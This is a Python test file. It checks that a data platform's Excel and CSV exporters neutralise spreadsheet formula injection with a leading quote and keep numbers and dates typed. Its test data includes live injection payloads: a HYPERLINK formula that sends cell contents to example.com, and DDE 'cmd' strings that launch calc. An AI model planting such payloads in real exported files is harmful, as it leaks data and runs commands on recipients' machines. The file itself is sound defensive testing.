"""No file the platform writes holds a formula made of data (CSV / formula injection).

Every exporter of every registered sheet kind — the core's and each plugin's, found through the
registry so that a new plugin's exporter is covered without a line here — the drill-through
file, `jiuye metrics` files and the import report: text from data beginning with `=`, `+`,
`-`, `@`, a tab or a carriage return is written as text with a quote in front, numbers and
dates stay typed, and importing the file gives back the value that was exported.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
from collections.abc import AsyncIterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncConnection

from core.graphql.context import Caller
from core.importing.cells import DANGEROUS, imported
from core.importing.exporting import run_export
from core.importing.readers import open_book
from core.importing.sheets import ExportRequest, SheetKind, sheet_kinds
from core.importing.workbook import write_report
from core.platform import Platform
from core.records.models import person
from core.records.models import region as region_table
from core.regions import CITY_CODE
from tests.conftest import GraphQLClient
from tests.factories import VILLAGE_A1, add_household, add_job, add_regions, id_number, member
from tests.importing.helpers import LEDGER_HEADERS, family, rows_of, run
from tests.test_cli import jiuye

NAMES = [
    '=HYPERLINK("http://example.com/?x="&C2,"点我")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]
"""Names a person may be registered under, each beginning as a formula would."""
EXPORT_DAY = date(2019, 9, 30)


def poison(text: str, index: int) -> str:
    """`text` beginning with the index-th dangerous character (tab and CR included)."""
    return DANGEROUS[index % len(DANGEROUS)] + text


def poisoned(kind: SheetKind) -> SheetKind:
    """The kind with an exporter whose every text cell begins as a formula would."""
    assert kind.exporter is not None
    exporter = kind.exporter

    async def rows(
        conn: AsyncConnection, request: ExportRequest
    ) -> AsyncIterator[Sequence[object]]:
        index = 0
        async for row in exporter(conn, request):
            cells = []
            for value in row:
                if isinstance(value, str):
                    value = poison(value, index)
                    index += 1
                cells.append(value)
            yield cells

    return dataclasses.replace(kind, exporter=rows)


async def exported_rows(platform: Platform, kind: SheetKind) -> list[list[object]]:
    """What the kind's own exporter yields for the whole city on the export day."""
    assert kind.exporter is not None
    async with platform.db.connect() as conn:
        return [list(row) async for row in kind.exporter(conn, request())]


def request() -> ExportRequest:
    return ExportRequest(Caller(), CITY_CODE, EXPORT_DAY)


def assert_no_formula(cells: Sequence[Cell]) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)


def assert_typed_like(cell: Cell, value: object) -> None:
    """The written cell keeps the type the exporter gave: text, number or date."""
    if isinstance(value, str):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert isinstance(cell.value, str)
        if value.lstrip("'").startswith(DANGEROUS):
            # .xlsx (XML) reads a carriage return back as a line feed, unless openpyxl
            # writes through lxml (installed with python-docx), which keeps it
            written = ("'" + value.replace("\r", "\n"), "'" + value)
            assert cell.value in written, (cell.coordinate, cell.value)
    elif isinstance(value, bool):
        assert cell.data_type == "b"
    elif isinstance(value, int | float | Decimal):
        assert cell.data_type == "n" and not cell.is_date, (cell.coordinate, cell.value)
        assert Decimal(str(cell.value)) == Decimal(str(value))
    elif isinstance(value, date | datetime):
        assert cell.is_date, (cell.coordinate, cell.value)


def kinds_that_export(platform: Platform) -> list[SheetKind]:
    return [kind for kind in sheet_kinds(platform.plugins).values() if kind.exporter is not None]


async def test_every_registered_exporter_writes_data_as_text(
    demo_platform: Platform, tmp_path: Path
) -> None:
    kinds = kinds_that_export(demo_platform)
    assert {"ledger", "regions"} <= {kind.name for kind in kinds}
    for kind in kinds:
        original = await exported_rows(demo_platform, kind)
        assert original, f"the demo holds no {kind.name} rows to export"
        path = tmp_path / f"{kind.name}.xlsx"
        written = await run_export(
            demo_platform.db, poisoned(kind), request(), path, reason="检查公式注入"
        )
        assert written == len(original)

        sheet = load_workbook(path)[kind.title]
        rows = list(sheet.iter_rows(min_row=2))
        assert len(rows) == len(original)
        texts = 0
        index = 0
        for cells, row in zip(rows, original, strict=True):
            assert_no_formula(cells)
            for cell, value in zip(cells, row, strict=False):
                if isinstance(value, str):
                    value = poison(value, index)
                    index += 1
                    texts += 1
                if value is not None:
                    assert_typed_like(cell, value)
        assert texts, f"{kind.name}: no text cell was exported"

        # importing the file reads back exactly the text that was exported
        with path.open("rb") as file, open_book(file, path.name) as book:
            read = [values for number, values in book.sheets[0].rows() if number > 1]
        index = 0
        for values, row in zip(read, original, strict=True):
            for got, value in zip(values, row, strict=False):
                if isinstance(value, str):
                    sent = poison(value, index)
                    assert imported(got) in (sent.replace("\r", "\n"), sent), (kind.name, got)
                    index += 1


async def test_a_person_named_as_a_formula_is_exported_as_text_and_imports_unchanged(
    platform: Platform, tmp_path: Path
) -> None:
    await add_regions(platform)
    records = family()
    for record, name in zip(records, NAMES, strict=False):
        record["姓名"] = name
    source = tmp_path / "ledger.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows_of(records))
    source.write_text(buffer.getvalue(), encoding="utf-8")
    first = await run(platform, source)
    assert first.problems == []

    ledger = sheet_kinds(platform.plugins)["ledger"]
    path = tmp_path / "exported.xlsx"
    await run_export(platform.db, ledger, request(), path, reason="检查公式注入")
    sheet = load_workbook(path)[ledger.title]
    header = [cell.value for cell in sheet[1]]
    assert header == LEDGER_HEADERS
    names = [row[header.index("姓名")] for row in sheet.iter_rows(min_row=2)]
    for row in sheet.iter_rows(min_row=2):
        assert_no_formula(row)
    assert sorted(cell.value for cell in names) == sorted("'" + name for name in NAMES[:3])
    income = next(
        row[header.index("月收入(元)")] for row in sheet.iter_rows(min_row=2) if row[0].value
    )
    started = [row[header.index("就业开始日期")] for row in sheet.iter_rows(min_row=2)]
    assert any(cell.is_date for cell in started)
    assert income.data_type in ("n", "s")  # blank for members not at work

    again = await run(platform, path)
    assert again.problems == []
    assert again.totals.unchanged == 3 and again.totals.updated == 0
    async with platform.db.connect() as conn:
        stored = set((await conn.execute(select(person.c.name))).scalars())
    assert stored == set(NAMES[:3])


async def test_the_drill_through_file_writes_names_as_text_and_numbers_as_numbers(
    platform: Platform, gql: GraphQLClient
) -> None:
    await add_regions(platform)
    for index, name in enumerate(NAMES, start=1):
        await add_household(
            platform, f"H-{index}", VILLAGE_A1, [member(name, date(1980, 1, 1), index)]
        )
        await add_job(platform, id_number(date(1980, 1, 1), index), date(2019, 3, 1))
    data = await gql(
        '{ metric(key: "core.employed_workers", region: "450200", asOf: "2019-09-30") '
        "{ recordsFile { contentBase64 rows } } }"
    )
    file = data["metric"]["recordsFile"]
    assert file["rows"] == len(NAMES)
    book = load_workbook(io.BytesIO(base64.b64decode(file["contentBase64"])))
    sheet = book["明细"]
    header = [cell.value for cell in sheet[2]]
    rows = list(sheet.iter_rows(min_row=3))
    for row in rows:
        assert_no_formula(row)
    assert sorted(row[header.index("姓名")].value for row in rows) == sorted(
        "'" + name for name in NAMES
    )
    for row in rows:
        counted = row[header.index("计入分子")]
        assert counted.data_type == "n" and counted.value == 1


async def test_metrics_files_write_region_names_as_text(
    platform: Platform, database_url: str, tmp_path: Path
) -> None:
    await add_regions(platform)
    async with platform.db.begin() as conn:
        await conn.execute(
            update(region_table).where(region_table.c.code == "450225").values(short_name="=1+1")
        )
    out = tmp_path / "m.csv"
    arguments = ["metrics", "--as-of", "2019-09-30", "--keys", "core.labor_households"]
    done = jiuye(*arguments, "--format", "csv", "--output", str(out), database_url=database_url)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    named = next(row for row in rows if row["区划代码"] == "450225")
    assert named["区划"] in ("'=1+1", "'  =1+1")
    assert named["数值"] == "0"

    book = tmp_path / "m.xlsx"
    done = jiuye(*arguments, "--format", "xlsx", "--output", str(book), database_url=database_url)
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(book).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        assert_no_formula(row)
    cells = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "450225")
    assert cells[3].value in ("'=1+1", "'  =1+1")
    assert cells[4].data_type == "n"


async def test_the_import_report_writes_the_clerks_cells_as_text(
    platform: Platform, tmp_path: Path
) -> None:
    await add_regions(platform)
    records = family()
    records[0]["姓名"] = NAMES[0]
    records[1]["身份证号"] = "=1+2"
    source = tmp_path / "ledger.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows_of(records))
    source.write_text(buffer.getvalue(), encoding="utf-8")
    report = await run(platform, source)
    assert report.problem_count >= 1
    target = tmp_path / "report.xlsx"
    with source.open("rb") as file:
        write_report(report, file, target)

    book = load_workbook(target)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert_no_formula(row)
    summary = [[c.value for c in row] for row in book["导入报告"].iter_rows()]
    assert any("'=1+2" in row for row in summary)
    copy = book[book.sheetnames[1]]
    values = [cell.value for row in copy.iter_rows() for cell in row]
    assert "'" + NAMES[0] in values and "'=1+2" in values


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'", "'"),
        ("a=1", "a=1"),
        ("  =1", "'  =1"),
        ("' =1", "'' =1"),
        ("韦一", "韦一"),
        ("", ""),
    ],
)
def test_neutralised_text_round_trips(text: str, written: str) -> None:
    from core.importing.cells import neutralise, restore

    assert neutralise(text) == written
    assert restore(written) == text


async def test_control_characters_are_dropped_on_the_way_in_and_out(
    platform: Platform, tmp_path: Path
) -> None:
    await add_regions(platform)
    records = family()
    records[0]["姓名"] = "韦\x00一\x01"
    source = tmp_path / "ledger.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows_of(records))
    source.write_text(buffer.getvalue(), encoding="utf-8")
    report = await run(platform, source)
    assert report.problems == []
    target = tmp_path / "report.xlsx"
    with source.open("rb") as file:
        write_report(report, file, target)
    async with platform.db.begin() as conn:
        stored = set((await conn.execute(select(person.c.name))).scalars())
        assert "韦一" in stored
        await conn.execute(update(person).where(person.c.name == "韦一").values(name="=韦\x02一"))
    path = tmp_path / "exported.xlsx"
    await run_export(
        platform.db, sheet_kinds(platform.plugins)["ledger"], request(), path, reason="检查公式注入"
    )
    names = [row[1].value for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert "'=韦一" in names


def test_only_text_is_touched() -> None:
    from core.importing.cells import safe_cell

    values: list[Any] = [-5, Decimal("-1.50"), -0.5, date(2019, 1, 1), None, True]
    assert [safe_cell(v) for v in values] == values
